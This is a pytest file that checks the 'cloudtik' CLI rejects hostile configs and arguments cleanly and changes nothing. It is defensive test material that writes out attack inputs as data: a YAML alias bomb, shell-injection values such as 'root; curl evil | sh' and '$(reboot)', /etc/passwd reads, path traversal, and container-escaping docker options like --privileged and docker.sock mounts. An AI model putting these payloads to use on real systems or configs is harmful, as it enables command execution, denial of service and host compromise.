"""Hostile input through the real `cloudtik` CLI, one process each: configs, docker options, cluster and
workspace names, odd files. Every case must exit 2 with one clear line (no traceback) and leave nothing
behind: no cluster record, no node, no hypervisor, and the config's initialization command never ran."""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
# Every config below starts with this: had anything run on a node, the marker would exist.
BASE = "cluster_name: hostile\nfrom: virtual-small\ninitialization_commands: ['touch {marker}']\n"


def billion_laughs() -> str:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, 9):
        lines.append(f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 9) + "]")
    return "\n".join(lines) + "\nnode_config_bomb: *a8\n"


@dataclass(frozen=True)
class Case:
    id: str
    args: tuple[str, ...]  # after `cloudtik`; {config} is the written config's path
    expected: str  # part of the one error line
    config: str | None = None  # YAML after BASE
    prepare: Callable[[Path], None] | None = None  # makes odd files in the working dir


def _key(mode: int) -> Callable[[Path], None]:
    def make(cwd: Path) -> None:
        key = cwd / "id_test"
        key.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----\n")
        key.chmod(mode)

    return make


def _fifo(cwd: Path) -> None:
    os.mkfifo(cwd / "pipe.yaml")


def _directory(cwd: Path) -> None:
    (cwd / "dir.yaml").mkdir()


def _binary(cwd: Path) -> None:
    (cwd / "binary.yaml").write_bytes(b"cluster_name: \xff\xfe\x00\x01")


def _chain(cwd: Path) -> None:
    for i in range(10):
        (cwd / f"t{i}.yaml").write_text(f"from: ./t{i + 1}.yaml\n" if i < 9 else "from: virtual-small\n")


UP = ("up", "--yes", "{config}")
DOCKER = "docker: {enabled: true, image: 'x:1', run_options: [%s]}\n"
CASES = [
    # -- YAML that would eat the machine --
    Case("alias-bomb", UP, "expands to more than", billion_laughs()),
    Case("recursive-alias", UP, "recursive", "setup_commands: &loop [*loop]\n"),
    Case("huge-file", UP, "larger than 1024 KiB", "# " + "x" * (1024 * 1024 + 10) + "\n"),
    Case("deep-nesting", UP, "nested too deeply", "setup_commands: " + "[" * 3000 + "]" * 3000 + "\n"),
    Case("huge-integer", UP, "invalid YAML", "idle_timeout_minutes: " + "9" * 5000 + "\n"),
    Case("chain-of-templates", UP, "more than 8 templates", "", _chain),
    # -- counts, intervals and strings past their bounds --
    Case(
        "max-workers-1e12",
        UP,
        "available_node_types.worker.max_workers: must be <= 10000",
        "available_node_types: {worker: {max_workers: 1000000000000}}\n",
    ),
    Case(
        "interval-1e-9", UP, "head.heartbeat_interval: must be >= 0.1", "head: {heartbeat_interval: 1.0e-9}\n"
    ),
    Case(
        "interval-inf",
        UP,
        "head.controller_interval: expected a finite number",
        "head: {controller_interval: .inf}\n",
    ),
    Case(
        "timeout-nan",
        UP,
        "head.heartbeat_timeout: expected a finite number",
        "head: {heartbeat_timeout: .nan}\n",
    ),
    Case("idle-1e20", UP, "idle_timeout_minutes: must be <= 10080", "idle_timeout_minutes: 1.0e+20\n"),
    Case("10mb-command", UP, "longer than 65536 characters", None),  # written by `config_text`
    Case(
        "300-commands",
        UP,
        "setup_commands: at most 256 entries",
        "setup_commands: [" + ",".join(["ls"] * 300) + "]\n",
    ),
    Case(
        "negative-resource",
        UP,
        "resources.CPU: must be >= 0",
        "available_node_types: {worker: {resources: {CPU: -1}}}\n",
    ),
    # -- the provider section, judged before anything is recorded --
    Case(
        "address-block-outside-loopback",
        UP,
        "provider.address_block",
        "provider: {type: virtual, address_block: 10.0.0.0/8}\n",
    ),
    Case(
        "address-block-garbage",
        UP,
        "not an IPv4 network",
        "provider: {type: virtual, address_block: '127.0.0.0/8; rm -rf ~'}\n",
    ),
    Case(
        "endpoint-file-url",
        UP,
        "provider.endpoint_url",
        "provider: {type: aws, endpoint_url: 'file:///etc/passwd'}\n",
    ),
    Case("region-injection", UP, "provider.region", "provider: {type: aws, region: 'us-east-1$(reboot)'}\n"),
    # -- identities and keys --
    Case("ssh-user-injection", UP, "auth.ssh_user", "auth: {ssh_user: 'root; curl evil | sh'}\n"),
    Case("ssh-key-not-a-key", UP, "auth.ssh_private_key", "auth: {ssh_private_key: /etc/passwd}\n"),
    Case(
        "ssh-key-readable-by-all",
        UP,
        "readable by other users",
        "auth: {ssh_private_key: ./id_test}\n",
        _key(0o644),
    ),
    Case("node-type-traversal", UP, 'available_node_types."../x"', "available_node_types: {'../x': {}}\n"),
    Case("cluster-name-traversal", ("up", "--yes", "{config}"), "cluster_name: must start", None),
    # -- docker run options --
    Case("docker-dit", UP, "-d (in -dit) is not allowed", DOCKER % "'-dit'"),
    Case("docker-cap-add-all", UP, "docker.run_options[0]: --cap-add=ALL", DOCKER % "'--cap-add=ALL'"),
    Case(
        "docker-seccomp",
        UP,
        "weakens the container's confinement",
        DOCKER % "'--security-opt seccomp=unconfined'",
    ),
    Case("docker-host-root", UP, "binds a host path", DOCKER % "'-v /:/host'"),
    Case("docker-clustered-volume", UP, "binds a host path", DOCKER % "'-itv/:/host'"),
    Case("docker-device", UP, "gives the container a device", DOCKER % "'--device /dev/sda'"),
    Case("docker-privileged", UP, "every capability", DOCKER % "'--privileged'"),
    Case("docker-host-pid", UP, "shares a namespace", DOCKER % "'--pid=host'"),
    Case("docker-image-smuggled", UP, "is not an option", DOCKER % "'alpine sh -c id'"),
    Case(
        "docker-socket-mount",
        UP,
        "exposes /var/run/docker.sock",
        "docker: {enabled: true, image: 'x:1', mounts: ['/var/run/docker.sock:/s']}\n",
    ),
    # -- files that are not config files --
    Case("config-is-a-fifo", ("up", "--yes", "pipe.yaml"), "not a regular file", None, _fifo),
    Case("config-is-a-directory", ("up", "--yes", "dir.yaml"), "not a regular file", None, _directory),
    Case("config-not-utf8", ("up", "--yes", "binary.yaml"), "cannot read", None, _binary),
    # -- names that are paths --
    Case("down-traversal", ("down", "--yes", "../.."), "neither a config file"),
    Case("status-traversal", ("status", "../../etc/passwd"), "neither a config file"),
    Case("exec-slash-name", ("exec", "a/b", "true"), "neither a config file"),
    Case("workspace-traversal", ("workspace", "status", "../../x"), "neither a config file nor a workspace name"),
]


def config_text(case: Case, marker: Path) -> str:
    base = BASE.format(marker=marker)
    if case.id == "10mb-command":
        return base + "setup_commands: ['" + "x" * (10 * 1024 * 1024 // 20) + "']\n"
    if case.id == "cluster-name-traversal":
        return base.replace("cluster_name: hostile", "cluster_name: ../../x")
    if case.id == "chain-of-templates":
        return base.replace("from: virtual-small", "from: ./t0.yaml")
    return base + (case.config or "")


def cloudtik(home: Path, cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "CLOUDTIK_HOME": str(home)}
    return subprocess.run(
        [sys.executable, "-m", "cloudtik_jupyter.cli", *args],
        capture_output=True,
        text=True,
        env=env,
        cwd=cwd,
        timeout=60,
        stdin=subprocess.DEVNULL,
    )


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_input_exits_2_with_one_line_and_changes_nothing(case: Case, tmp_path: Path) -> None:
    home, cwd = tmp_path / "state", tmp_path / "work"
    cwd.mkdir()
    marker = tmp_path / "ran"
    if case.prepare:
        case.prepare(cwd)
    config = cwd / "cluster.yaml"
    config.write_text(config_text(case, marker))
    args = [a.replace("{config}", str(config)) for a in case.args]

    done = cloudtik(home, cwd, *args)

    lines = [line for line in done.stderr.splitlines() if line.strip()]
    assert done.returncode == 2, (done.returncode, done.stderr[-2000:])
    assert "Traceback" not in done.stderr
    assert len(lines) == 1 and lines[0].startswith("Error: "), done.stderr[-2000:]
    assert case.expected in lines[0], lines[0]
    assert len(lines[0]) < 600, "one short line, not a dump of the input"
    assert not marker.exists(), "a command of the refused config ran"
    made = sorted(str(p.relative_to(home)) for p in home.rglob("*")) if home.exists() else []
    assert not made, f"a refused input left state behind: {made}"


def test_the_cases_are_many_and_distinct() -> None:
    assert len(CASES) >= 30
    assert len({c.id for c in CASES}) == len(CASES)
